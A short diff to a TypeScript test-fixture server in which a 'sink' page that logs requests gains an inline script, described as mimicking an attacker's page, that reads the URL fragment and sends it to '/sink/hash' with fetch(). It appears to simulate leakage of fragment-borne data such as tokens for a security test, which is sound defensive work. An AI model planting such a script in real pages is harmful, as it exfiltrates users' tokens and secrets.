@@ -122,7 +122,9 @@ export async function startFixtures(bundle: string): Promise<Server> {
       req.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
       req.on("end", () => {
         sinkRequests.push({ host: req.headers.host ?? "", url: req.url ?? "", body });
-        send(200, TYPES[".html"]!, "<!doctype html><title>Thanks</title><h1>Thanks</h1>");
+        // As an attacker's page would, it sends on what its address's fragment carried.
+        const echo = "<script>if (location.hash) fetch('/sink/hash?h=' + encodeURIComponent(location.hash.slice(1)))</script>";
+        send(200, TYPES[".html"]!, `<!doctype html><title>Thanks</title><h1>Thanks</h1>${echo}`);
       });
       return;
     }
